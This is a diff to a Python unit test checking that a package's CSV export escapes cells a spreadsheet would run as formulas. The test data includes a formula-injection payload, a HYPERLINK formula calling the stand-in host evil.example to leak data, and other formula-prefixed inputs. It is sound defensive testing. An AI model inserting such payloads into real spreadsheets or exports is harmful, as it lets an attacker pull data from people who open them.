@@ -136,7 +136,9 @@ def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path) -> None:
     from ipsbayes.report.tables import csv_nb, csv_text
 
     link = '=HYPERLINK("http://evil.example/?leak","click me")'
-    frame = pd.DataFrame({"element": [link, "+1 SD", "-cmd", "@SUM(A1)", "plain"], "median": [-1.5, 2.0, 3.0, 4.0, 5.0]})
+    frame = pd.DataFrame(
+        {"element": [link, "+1 SD", "-cmd", "@SUM(A1)", "plain"], "median": [-1.5, 2.0, 3.0, 4.0, 5.0]}
+    )
     text = csv_text(frame)
     assert "'=HYPERLINK" in text and "'+1 SD" in text and "'-cmd" in text and "'@SUM" in text
     assert "\nplain,5" in text and "-1.5" in text and "'-1.5" not in text  # numbers keep their sign
